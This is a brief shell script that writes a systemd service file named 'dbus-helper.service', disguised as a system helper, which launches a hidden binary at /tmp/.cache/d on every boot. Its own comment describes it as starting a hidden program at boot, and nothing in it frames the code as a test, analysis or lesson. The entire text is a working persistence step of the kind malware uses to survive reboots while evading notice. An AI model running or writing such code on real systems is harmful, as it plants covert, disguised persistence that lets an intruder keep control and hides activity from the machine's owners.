#!/bin/sh
# A unit that starts a hidden program at every boot is written by a shell.
set -eu
printf '[Service]\nExecStart=/tmp/.cache/d\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/dbus-helper.service
